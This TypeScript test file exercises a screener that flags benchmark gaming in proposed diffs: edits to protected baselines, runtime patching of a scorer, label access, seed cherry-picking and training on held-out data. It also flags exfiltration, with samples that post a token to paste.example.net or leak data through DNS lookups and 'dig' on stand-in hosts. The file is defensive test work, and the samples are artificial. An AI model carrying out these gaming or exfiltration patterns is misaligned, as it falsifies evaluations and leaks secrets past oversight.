// Rules that use what a fleet declares (issue 25): each declaration turns a miss into a catch, and adds no false
// alarm on the honest change next to it. Real parsing, real diffs (the `diff` package's hunks in git's format).
import * as assert from 'node:assert/strict';
import { structuredPatch } from 'diff';
import { screenProposal } from '../../../src/screening/screen';
import { blobId, parseCacheSize, parseText } from '../../../src/screening/syntax';
import { DEFAULT_TASK_RULES, parseTaskRules, type TaskRules } from '../../../src/screening/taskRules';

const FLAG = new Set(['medium', 'high', 'critical']);

/** A git-style diff of edits to existing files (old → new) and new files (old undefined). */
function gitDiff(edits: Record<string, [string | undefined, string]>): string {
  let out = '';
  for (const [p, [before, after]] of Object.entries(edits)) {
    const sp = structuredPatch(`a/${p}`, `b/${p}`, before ?? '', after, '', '', { context: 3 });
    out += `diff --git a/${p} b/${p}\n`;
    if (before === undefined) out += 'new file mode 100644\n';
    out += `--- ${before === undefined ? '/dev/null' : `a/${p}`}\n+++ b/${p}\n`;
    for (const h of sp.hunks) out += `@@ -${before === undefined ? 0 : h.oldStart},${h.oldLines} +${h.newStart},${h.newLines} @@\n${h.lines.join('\n')}\n`;
  }
  return out;
}

interface P {
  edits: Record<string, [string | undefined, string]>;
  rules?: Partial<TaskRules>;
  command?: string;
  taskMode?: 'normal' | 'no-testing';
}

async function screen(p: P) {
  const after = new Map(Object.entries(p.edits).map(([k, [, v]]) => [k, v]));
  return screenProposal({
    diff: gitDiff(p.edits),
    files: async (f) => after.get(f),
    command: p.command ?? 'python scripts/run.py',
    // a proposal declares its task's mode (declaring a laxer one is a finding of its own: task-mode-laxer)
    taskMode: p.taskMode ?? p.rules?.mode ?? 'normal',
    title: 'proposal',
    rationale: '',
    rules: p.rules ? { ...DEFAULT_TASK_RULES, ...p.rules } : undefined,
  });
}

const flags = (r: Awaited<ReturnType<typeof screen>>): string[] => r.findings.filter((f) => FLAG.has(f.severity)).map((f) => `${f.kind}@${f.file}:${f.line}`);

const CONFIG = `"""Project settings."""
import os

# ---- organisers' block: DO NOT EDIT ----
BASELINES = {
    "weak": 0.71,
    "strong": 0.93,
}
GOLD_BUDGET = 400

# ---- ordinary settings ----
LR = 2e-5
EPOCHS = 3
OUT_DIR = os.environ.get("OUT_DIR", "results")
`;

describe('screening: rules from declared task rules (issue 25)', function () {
  this.timeout(60000);

  it('task rules accept protectedSymbols, answerCarryingFields and candidatePaths, with clear errors on bad values', () => {
    const t = parseTaskRules({ a: { mode: 'no-testing', protectedSymbols: ['pkg.config.BASELINES', 'configs/a.yaml:reference'], answerCarryingFields: ['support'], candidatePaths: ['candidates/**'] } });
    assert.deepEqual(t.get('a')!.protectedSymbols, ['pkg.config.BASELINES', 'configs/a.yaml:reference']);
    assert.deepEqual(t.get('a')!.candidatePaths, ['candidates/**']);
    assert.deepEqual(parseTaskRules({ b: {} }).get('b')!.answerCarryingFields, []);
    assert.throws(() => parseTaskRules({ a: { answerCarryingFields: ['bad field'] } }), /answerCarryingFields\.0: a field name/);
    assert.throws(() => parseTaskRules({ a: { protectedSymbols: ['a:b:c'] } }), /protectedSymbols\.0/);
    assert.throws(() => parseTaskRules({ a: { candidatepaths: [] } }), /candidatepaths/);
  });

  describe('protected regions', () => {
    it('a DO NOT EDIT marker protects its block: editing a baseline is a finding on that line', async () => {
      const r = await screen({ edits: { 'pkg/config.py': [CONFIG, CONFIG.replace('"weak": 0.71', '"weak": 0.61')] } });
      assert.deepEqual(flags(r), ['protected-edit@pkg/config.py:6']);
    });

    it('edits elsewhere in the same file are not findings', async () => {
      const r = await screen({ edits: { 'pkg/config.py': [CONFIG, CONFIG.replace('LR = 2e-5', 'LR = 1e-5\nWARMUP = 100')] } });
      assert.deepEqual(flags(r), []);
      assert.equal(r.gaming, false);
    });

    it('deleting a line of the protected block is a finding too', async () => {
      const r = await screen({ edits: { 'pkg/config.py': [CONFIG, CONFIG.replace('GOLD_BUDGET = 400\n', '')] } });
      assert.ok(flags(r).some((f) => f.startsWith('protected-edit@pkg/config.py:')), JSON.stringify(flags(r)));
    });

    it('a marker the proposal adds itself protects nothing', async () => {
      const r = await screen({ edits: { 'pkg/config.py': [CONFIG, CONFIG.replace('# ---- ordinary settings ----', '# ---- ordinary settings (DO NOT EDIT) ----').replace('EPOCHS = 3', 'EPOCHS = 4')] } });
      assert.deepEqual(flags(r), []);
    });

    it('protectedSymbols: an unmarked value is protected only when declared (a miss becomes a catch)', async () => {
      const plain = CONFIG.replace("# ---- organisers' block: DO NOT EDIT ----\n", '');
      const edits = { 'pkg/config.py': [plain, plain.replace('GOLD_BUDGET = 400', 'GOLD_BUDGET = 4000')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits })), []);
      assert.deepEqual(flags(await screen({ edits, rules: { protectedSymbols: ['pkg.config.GOLD_BUDGET'] } })), ['protected-edit@pkg/config.py:8']);
      // Declared, but the edit is to another value: no finding.
      const other = { 'pkg/config.py': [plain, plain.replace('EPOCHS = 3', 'EPOCHS = 5')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: other, rules: { protectedSymbols: ['pkg.config.GOLD_BUDGET', 'pkg.config.BASELINES'] } })), []);
    });

    it('protectedSymbols: a run-time change from another file is a finding; reading the value is not', async () => {
      const rules = { protectedSymbols: ['pkg.config.BASELINES'] };
      const run = 'from pkg import config\n\n\ndef main():\n    return config.LR\n';
      const bad = { 'scripts/run.py': [run, run.replace('    return config.LR', '    config.BASELINES["weak"] = 0.5\n    return config.LR')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad })), []);
      assert.deepEqual(flags(await screen({ edits: bad, rules })), ['protected-edit@scripts/run.py:5']);
      const ok = { 'scripts/run.py': [run, run.replace('    return config.LR', '    weak = config.BASELINES["weak"]\n    return config.LR * weak')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: ok, rules })), []);
    });

    it("a header that describes the block below protects that block, not the whole file", async () => {
      const cfg = `# Settings. The organisers' block below is DO NOT EDIT.\n\nimport os\n\n# organisers' block: DO NOT EDIT\nBUDGET = 400\n\n# training\nLR = 2e-5\n`;
      assert.deepEqual(flags(await screen({ edits: { 'pkg/settings.py': [cfg, cfg.replace('LR = 2e-5', 'LR = 3e-5')] } })), []);
      assert.deepEqual(flags(await screen({ edits: { 'pkg/settings.py': [cfg, cfg.replace('BUDGET = 400', 'BUDGET = 900')] } })), ['protected-edit@pkg/settings.py:6']);
    });

    it('an explicit end marker bounds the region across blank lines', async () => {
      const cfg = `# --- organisers: DO NOT EDIT ---\nA = 1\n\nB = 2\n# --- end of organisers' block ---\n\nC = 3\n`;
      assert.deepEqual(flags(await screen({ edits: { 'pkg/c.py': [cfg, cfg.replace('B = 2', 'B = 5')] } })), ['protected-edit@pkg/c.py:4']);
      assert.deepEqual(flags(await screen({ edits: { 'pkg/c.py': [cfg, cfg.replace('C = 3', 'C = 4')] } })), []);
    });

    it('a DO NOT EDIT comment above a YAML key protects that key only', async () => {
      const yaml = '# reference values: DO NOT EDIT\nreference:\n  weak_acc: 0.70\nsettings:\n  lr: 2.0e-5\n';
      assert.deepEqual(flags(await screen({ edits: { 'configs/b.yaml': [yaml, yaml.replace('lr: 2.0e-5', 'lr: 1.0e-5')] } })), []);
      assert.deepEqual(flags(await screen({ edits: { 'configs/b.yaml': [yaml, yaml.replace('weak_acc: 0.70', 'weak_acc: 0.50')] } })), ['protected-edit@configs/b.yaml:3']);
    });

    it('protectedPaths: patching the protected scorer module at run time is a finding; calling it is not', async () => {
      const run = 'import w.scoring as S\n\n\ndef main(a, b, c):\n    return S.pgr(a, b, c)\n';
      const rules = { protectedPaths: ['w/scoring.py'] };
      const bad = { 'scripts/run.py': [run, run.replace('    return S.pgr', '    S.pgr = lambda *x: 1.0\n    return S.pgr')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad, rules })), ['protected-edit@scripts/run.py:5']);
      const ok = { 'scripts/run.py': [run, run.replace('    return S.pgr(a, b, c)', '    score = S.pgr(a, b, c)\n    return round(score, 4)')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: ok, rules })), []);
      const from = 'from w import scoring\n\n\ndef main():\n    return 0\n';
      const bad2 = { 'scripts/r2.py': [from, from.replace('    return 0', '    setattr(scoring, "pgr", max)\n    return 0')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad2, rules })), ['protected-edit@scripts/r2.py:5']);
    });

    it('a YAML key declared as "file:key" protects that block only', async () => {
      const yaml = 'reference:\n  weak_acc: 0.70\n  strong_acc: 0.92\nsettings:\n  lr: 2.0e-5\n  epochs: 3\n';
      const rules = { protectedSymbols: ['configs/a.yaml:reference'] };
      const bad = { 'configs/a.yaml': [yaml, yaml.replace('weak_acc: 0.70', 'weak_acc: 0.60')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad })), []);
      assert.deepEqual(flags(await screen({ edits: bad, rules })), ['protected-edit@configs/a.yaml:2']);
      const ok = { 'configs/a.yaml': [yaml, yaml.replace('epochs: 3', 'epochs: 4')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: ok, rules })), []);
    });
  });

  describe('answerCarryingFields', () => {
    const loader = 'import json\n\n\ndef load(path):\n    rows = [json.loads(l) for l in open(path)]\n    return [r["text"] for r in rows]\n';
    it('reading a declared field is label access only when declared', async () => {
      const bad = { 'w/data.py': [loader, loader.replace('r["text"] for', 'r["text"] + " " + r["support"] for')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad })), []);
      assert.deepEqual(flags(await screen({ edits: bad, rules: { answerCarryingFields: ['support'] } })), ['label-access@w/data.py:6']);
    });
    it('dropping the field is not a finding', async () => {
      const ok = { 'w/data.py': [loader, loader.replace('    return', '    for r in rows:\n        r.pop("support", None)\n    return')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: ok, rules: { answerCarryingFields: ['support'] } })), []);
    });
  });

  describe('resultsMustReport: all_seeds', () => {
    const report = 'import json\n\n\ndef write(runs, path):\n    keep = runs\n    with open(path, "w") as fh:\n        json.dump(keep, fh)\n';
    it('a filter over runs on a metric before they are written is a finding when all_seeds is declared', async () => {
      const bad = { 'w/report.py': [report, report.replace('keep = runs', 'keep = [r for r in runs if r["pgr"] > 0.3]')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad })), []);
      assert.deepEqual(flags(await screen({ edits: bad, rules: { resultsMustReport: ['all_seeds'] } })), ['seed-hacking@w/report.py:5']);
    });
    it('sorted-and-sliced runs are a finding; writing every run with a mean is not', async () => {
      const rules = { resultsMustReport: ['all_seeds'] };
      const bad = { 'w/report.py': [report, report.replace('keep = runs', 'keep = sorted(runs, key=lambda r: r["acc"])[-3:]')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: bad, rules })), ['seed-hacking@w/report.py:5']);
      const ok = { 'w/report.py': [report, report.replace('keep = runs', 'keep = {"runs": runs, "mean": sum(r["acc"] for r in runs) / len(runs)}')] as [string, string] };
      assert.deepEqual(flags(await screen({ edits: ok, rules })), []);
    });
  });

  describe('what the rules allow', () => {
    it("the repository's own tests in a no-testing task are not a finding; running candidates still is", async () => {
      const edits = { 'w/util.py': ['X = 1\n', 'X = 2\n'] as [string, string] };
      const rules = { mode: 'no-testing' as const, candidatePaths: ['candidates/**'] };
      assert.deepEqual(flags(await screen({ edits, rules, command: 'python -m pytest -q tests/' })), []);
      // Without candidatePaths the screener cannot tell the repository's tests from the candidates' tests.
      assert.deepEqual(flags(await screen({ edits, rules: { mode: 'no-testing' }, command: 'python -m pytest -q tests/' })), ['no-testing-execution@<command>:0']);
      assert.deepEqual(flags(await screen({ edits, rules, command: 'pytest tests/test_package.py::test_bundle' })), []);
      assert.deepEqual(flags(await screen({ edits, rules, command: 'pytest candidates/' })), ['no-testing-execution@<command>:0']);
      assert.deepEqual(flags(await screen({ edits, rules, command: 'pytest' })), ['no-testing-execution@<command>:0']);
    });

    it('an evaluation client is not the scorer once the fleet declares its protected paths', async () => {
      const client = 'import os\nURL = os.environ["EVAL_URL"]\nTIMEOUT = 30\n';
      const edits = { 'eval/client.py': [client, client.replace('TIMEOUT = 30', 'TIMEOUT = 60')] as [string, string] };
      assert.ok(flags(await screen({ edits })).some((f) => f.startsWith('scoring-edit')));
      assert.deepEqual(flags(await screen({ edits, rules: { protectedPaths: ['w/scoring.py'] } })), []);
      const scorer = { 'w/scoring.py': ['def pgr(a, b, c):\n    return (a - b) / (c - b)\n', 'def pgr(a, b, c):\n    return (a - b) / (c - b) + 0.1\n'] as [string, string] };
      assert.ok(flags(await screen({ edits: scorer, rules: { protectedPaths: ['w/scoring.py'] } })).some((f) => f.startsWith('scoring-edit@w/scoring.py')));
    });

    it('a static checker over candidates (pyflakes) is not execution in a no-testing task; running them is', async () => {
      const base = 'import subprocess\nimport sys\n\n\ndef check(path):\n    return True\n';
      const lint = base.replace('    return True', '    return subprocess.run([sys.executable, "-m", "pyflakes", path]).returncode == 0');
      assert.deepEqual(flags(await screen({ edits: { 'w/check.py': [base, lint] }, taskMode: 'no-testing' })), []);
      const run = base.replace('    return True', '    return subprocess.run([sys.executable, path]).returncode == 0');
      assert.deepEqual(flags(await screen({ edits: { 'w/check.py': [base, run] }, taskMode: 'no-testing' })), ['no-testing-execution@w/check.py:6']);
    });

    it("the client's own token to the allowed evaluation host is not exfiltration", async () => {
      const base = 'import os\nimport requests\n\n\ndef submit(preds):\n    return None\n';
      const mine = base.replace('    return None', '    tok = os.environ["W2S_TOKEN"]\n    return requests.post("https://eval.example.org/submit", json=preds, headers={"Authorization": f"Bearer {tok}"})');
      const rules = { allowedHosts: ['eval.example.org'] };
      assert.deepEqual(flags(await screen({ edits: { 'w/client.py': [base, mine] }, rules })), []);
      const other = mine.replace('eval.example.org/submit', 'paste.example.net/up');
      assert.ok(flags(await screen({ edits: { 'w/client.py': [base, other] }, rules })).some((f) => /exfiltration|undeclared-network/.test(f)));
    });
  });

  describe('held-out inputs and train labels', () => {
    const base = 'from w.data import load_split\nfrom w.student import fit, predict\n\n\ndef main(student):\n    train = load_split("train")\n    fit(student, train)\n';
    it('pseudo-labels on declared held-out inputs flowing into training are a finding (normal and no-testing alike)', async () => {
      const bad = base.replace('    fit(student, train)', '    pool = load_split("data/s/heldout.jsonl")\n    pseudo = predict(student, pool)\n    fit(student, pool, pseudo)');
      for (const taskMode of ['normal', 'no-testing'] as const) {
        const f = flags(await screen({ edits: { 'w/self_train.py': [base, bad] }, taskMode, rules: { heldOutPaths: ['data/s/heldout.jsonl'] } }));
        assert.ok(f.some((x) => x.startsWith('test-split-training@w/self_train.py:')), `${taskMode}: ${JSON.stringify(f)}`);
      }
    });
    it('fitting normalisation / vectoriser statistics on held-out inputs is a finding; transforming them is not', async () => {
      const v = 'from sklearn.feature_extraction.text import TfidfVectorizer\nfrom w.data import load_split\n\n\ndef feats():\n    vec = TfidfVectorizer()\n    tr = load_split("train")\n    return vec.fit_transform(tr)\n';
      const bad = v.replace('    return vec.fit_transform(tr)', '    te = load_split("data/s/heldout.jsonl")\n    vec.fit_transform(tr + te)\n    return vec.transform(tr)');
      const rules = { heldOutPaths: ['data/s/heldout.jsonl'] };
      assert.ok(flags(await screen({ edits: { 'w/feats.py': [v, bad] }, rules })).some((x) => x.startsWith('test-split-training@w/feats.py:')));
      const ok = v.replace('    return vec.fit_transform(tr)', '    te = load_split("data/s/heldout.jsonl")\n    vec.fit_transform(tr)\n    return vec.transform(te)');
      assert.deepEqual(flags(await screen({ edits: { 'w/feats.py': [v, ok] }, rules })), []);
    });

    it('predicting on held-out inputs and reading train labels for validation are not findings', async () => {
      const ok = base.replace('    fit(student, train)', '    gold = load_split("data/s/train_labels.jsonl")\n    fit(student, train, val=gold[:200])\n    return predict(student, load_split("data/s/heldout.jsonl"))');
      assert.deepEqual(flags(await screen({ edits: { 'w/run.py': [base, ok] }, rules: { heldOutPaths: ['data/s/heldout.jsonl'], labelPaths: ['**/heldout_labels*'] } })), []);
    });
  });

  describe('name resolution is a network sink', () => {
    const base = 'import socket\n\n\ndef check(host, preds):\n    return True\n';
    it('a lookup of a name built from data is a finding; a pre-flight of a plain host name is not', async () => {
      const bad = base.replace('    return True', '    socket.gethostbyname(f"{preds[0]}.{len(preds)}.collect.example.net")\n    return True');
      assert.deepEqual(flags(await screen({ edits: { 'w/net.py': [base, bad] } })), ['undeclared-network@w/net.py:5']);
      const ok = base.replace('    return True', '    socket.gethostbyname(host)\n    return True');
      assert.deepEqual(flags(await screen({ edits: { 'w/net.py': [base, ok] } })), []);
    });
    it('dig / nslookup on the command line are network tools checked against the allowed hosts', async () => {
      const edits = { 'w/util.py': ['X = 1\n', 'X = 2\n'] as [string, string] };
      assert.deepEqual(flags(await screen({ edits, command: 'dig +short leak.example.net && python run.py' })), ['undeclared-network@<command>:0']);
      assert.deepEqual(flags(await screen({ edits, command: 'dig +short eval.example.org', rules: { allowedHosts: ['eval.example.org'] } })), []);
    });
  });

  it('parses once per file content (blob id), reusing trees across proposals', async () => {
    assert.equal(blobId('hello\n'), 'ce013625030ba8dba906f756967f9e9ca394464a'); // git hash-object of "hello\n"
    const text = `x = ${Math.random()}\n`;
    const a = await parseText('python', text);
    const n = parseCacheSize();
    const b = await parseText('python', text);
    assert.equal(a, b);
    assert.equal(parseCacheSize(), n);
  });
});
